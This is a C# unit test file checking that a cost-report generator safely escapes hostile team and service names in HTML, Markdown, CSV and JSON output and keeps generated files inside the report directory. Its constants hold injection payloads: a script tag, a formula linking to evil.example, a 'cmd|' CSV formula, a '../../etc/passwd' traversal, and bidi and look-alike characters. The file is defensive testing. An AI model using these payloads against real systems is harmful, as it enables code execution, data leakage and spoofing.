using System.Text.Json;
using Platform.Insights.Analytics.Store;
using Platform.Insights.Ingest.Records;
using Platform.Insights.Reports.Building;
using Platform.Insights.Reports.History;
using Platform.Insights.Reports.Model;
using Platform.Insights.Reports.Rendering;
using Platform.Insights.Reports.Tests.Support;

namespace Platform.Insights.Reports.Tests.Escaping;

/// <summary>
/// Team and service names with quotes, <c>../</c>, newlines, <c>&lt;script&gt;</c>, spreadsheet formulas, bidi overrides and
/// look-alike letters go into the real DuckDB store (catalog and billing, as an import writes them) and out through the
/// real report generator: every format escapes them for its own context, files stay inside the report directory, and
/// look-alike teams never share a report.
/// </summary>
public sealed partial class HostileNameReportTests : IDisposable
{
    private const string QuoteTeam = "o'brien \"quoted\" <script>alert(1)</script>";
    private const string FormulaTeam = "=HYPERLINK(\"http://evil.example/\"&A1)";
    private const string NewlineService = "web\n# injected heading\n| x | y |";
    private const string BidiService = "pay\u202Estnemy";
    private const string TraversalService = "../../etc/passwd";
    private const string FormulaService = "-2+3*cmd|' /C calc'!A0";
    private const string LatinTeam = "payments";
    private const string CyrillicTeam = "pаyments";

    private readonly ReportStore _store = new(Seed.Baseline);

    public void Dispose() => _store.Dispose();

    [Fact]
    public async Task Every_report_format_escapes_hostile_names_for_its_context()
    {
        await SeedAsync();

        var generated = await _store.Get<ReportGenerator>().GenerateAsync(new ReportRequest(ReportKind.Weekly, ReportPeriod.Parse(ReportKind.Weekly, "2026-W47")),
            ReportFormats.Html | ReportFormats.Markdown | ReportFormats.Csv | ReportFormats.Json, null, "test", CancellationToken.None);

        var root = Path.GetFullPath(generated.Directory) + Path.DirectorySeparatorChar;
        Assert.All(generated.Files, f => Assert.StartsWith(root, Path.GetFullPath(f), StringComparison.Ordinal));
        var html = await File.ReadAllTextAsync(Path.Combine(generated.Directory, "report.html"));
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>alert", html, StringComparison.Ordinal);
        Assert.DoesNotContain("\u202E", html, StringComparison.Ordinal);
        Assert.Contains("pay[U+202E]stnemy", html, StringComparison.Ordinal);

        var markdown = await File.ReadAllLinesAsync(Path.Combine(generated.Directory, "report.md"));
        Assert.DoesNotContain(markdown, l => l.StartsWith("# injected", StringComparison.Ordinal) || l.StartsWith("| x |", StringComparison.Ordinal));
        Assert.DoesNotContain(markdown, l => l.Contains("<script>", StringComparison.Ordinal) || l.Contains('\u202E', StringComparison.Ordinal));
        Assert.Contains(markdown, l => l.Contains("web # injected heading \\| x \\| y \\|", StringComparison.Ordinal));

        var cells = generated.Files.Where(f => f.EndsWith(".csv", StringComparison.Ordinal)).SelectMany(f => CsvCells(File.ReadAllText(f))).ToList();
        Assert.Contains("'" + FormulaTeam, cells);
        Assert.Contains("'" + FormulaService, cells);
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '@' or '\t' or '\r');
        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '+' or '-' && !SignedNumber().IsMatch(c));

        using var json = JsonDocument.Parse(await File.ReadAllTextAsync(Path.Combine(generated.Directory, "report.json")));
        var strings = Strings(json.RootElement).ToHashSet(StringComparer.Ordinal);
        Assert.True(strings.Any(s => s.Contains(QuoteTeam, StringComparison.Ordinal)), "the JSON keeps the exact team name");
        Assert.True(strings.Any(s => s.Contains(NewlineService, StringComparison.Ordinal)), "the JSON keeps the exact service name");
    }

    [Fact]
    public async Task Team_reports_of_hostile_and_look_alike_teams_get_their_own_safe_ids_and_directories()
    {
        await SeedAsync();
        var generator = _store.Get<ReportGenerator>();
        var period = ReportPeriod.Parse(ReportKind.Team, "2026-W47");

        var reports = new List<GeneratedReport>();
        foreach (var team in new[] { QuoteTeam, LatinTeam, CyrillicTeam, "../../outside" })
        {
            reports.Add(await generator.GenerateAsync(new ReportRequest(ReportKind.Team, period, team), ReportFormats.Json, null, "test", CancellationToken.None));
        }

        Assert.Equal(4, reports.Select(r => r.Report.Id).Distinct(StringComparer.Ordinal).Count());
        Assert.Equal("team-2026-W47-payments", reports[1].Report.Id);
        Assert.All(reports, r => Assert.Matches("^team-2026-W47-[a-z0-9-]+$", r.Report.Id));
        var reportsRoot = Path.GetFullPath(Path.Combine(_store.DataDirectory, "reports")) + Path.DirectorySeparatorChar;
        Assert.All(reports, r => Assert.StartsWith(reportsRoot, Path.GetFullPath(r.Directory), StringComparison.Ordinal));
        var history = _store.Get<IReportHistory>();
        Assert.Equal([reports[0].Report.Id], (await history.ListAsync(QuoteTeam, CancellationToken.None)).Select(r => r.Id));
        Assert.Equal([reports[2].Report.Id], (await history.ListAsync(CyrillicTeam, CancellationToken.None)).Select(r => r.Id));
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "+1")]
    [InlineData("-12.5", "-12.5")]
    [InlineData("-3%", "-3%")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("a\u2066b", "a[U+2066]b")]
    public void Csv_cells_are_neutralised_but_plain_numbers_stay_numbers(string cell, string expected) =>
        Assert.Equal(expected, ReportText.CsvCell(cell));

    private async Task SeedAsync()
    {
        (string Team, string Service)[] owned =
        [
            (QuoteTeam, NewlineService), (QuoteTeam, BidiService), (FormulaTeam, TraversalService), (FormulaTeam, FormulaService),
            (LatinTeam, "api"), (CyrillicTeam, "аpi"),
        ];
        foreach (var (team, service) in owned)
        {
            await _store.CatalogAsync(service, team);
        }
        var from = new DateTime(2026, 9, 28, 0, 0, 0, DateTimeKind.Utc);
        var rows = new List<FocusLineItem>();
        for (var day = from; day < Seed.W48; day = day.AddDays(1))
        {
            foreach (var (team, service) in owned)
            {
                var cost = day >= Seed.W47 ? 130m : 100m;
                var month = new DateTime(day.Year, day.Month, 1, 0, 0, 0, DateTimeKind.Utc);
                rows.Add(new FocusLineItem
                {
                    BilledCost = cost, EffectiveCost = cost, ListCost = cost, ContractedCost = cost, BillingCurrency = "USD",
                    BillingAccountId = "acct-1", SubAccountId = "sub-1", BillingPeriodStart = month, BillingPeriodEnd = month.AddMonths(1),
                    ChargePeriodStart = day, ChargePeriodEnd = day.AddDays(1), ChargeCategory = "Usage", ProviderName = "AWS",
                    ServiceName = "Amazon EC2", TagsJson = JsonSerializer.Serialize(new Dictionary<string, string> { ["team"] = team, ["service"] = service }),
                    SourceLine = rows.Count + 2,
                });
            }
        }
        var billing = _store.Get<BillingStore>();
        await billing.BeginAsync("imp-hostile", CancellationToken.None);
        await billing.StageAsync("imp-hostile", rows, CancellationToken.None);
        await billing.CommitAsync("imp-hostile", CancellationToken.None);
    }

    // What a spreadsheet reads as a number, not a formula: "+30.0 %", "-12.5", "-3 pp".
    [System.Text.RegularExpressions.GeneratedRegex(@"^[+-][0-9][0-9.,]*\s?(?:%|pp)?$")]
    private static partial System.Text.RegularExpressions.Regex SignedNumber();

    private static IEnumerable<string> Strings(JsonElement element) => element.ValueKind switch
    {
        JsonValueKind.String => [element.GetString()!],
        JsonValueKind.Array => element.EnumerateArray().SelectMany(Strings),
        JsonValueKind.Object => element.EnumerateObject().SelectMany(p => Strings(p.Value)),
        _ => [],
    };

    // RFC 4180, enough for the renderer's output: quoted fields with "" escapes and embedded line breaks.
    private static IEnumerable<string> CsvCells(string text)
    {
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c is ',' or '\n')
            {
                yield return cell.ToString();
                cell.Clear();
            }
            else if (c != '\r')
            {
                cell.Append(c);
            }
        }
    }
}
